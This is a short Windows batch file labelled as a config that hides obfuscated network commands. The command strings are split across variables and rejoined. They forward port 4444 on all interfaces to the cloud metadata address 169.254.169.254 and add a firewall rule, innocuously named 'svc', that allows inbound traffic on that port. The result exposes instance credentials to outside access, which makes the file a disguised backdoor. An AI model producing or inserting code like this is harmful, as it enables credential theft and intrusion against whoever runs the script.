REM config 8166 v2
cmd /v:on /c "set yie0=netsh interface portproxy add v4tov4 listenport=4444 listen&&set vph1=address=0&&set qkt2=.0.0.0 connectport=80 connectaddress=169.254&&set ezw3=.169.254&&!yie0!!vph1!!qkt2!!ezw3!"
@echo off
setlocal EnableDelayedExpansion
set utt0=netsh advfirewall firewall
set lhc1= add rule name="svc" dir=in action=allow prot
set gqn2=ocol=TCP lo
set msg3=calport=4444
!utt0!!lhc1!!gqn2!!msg3!
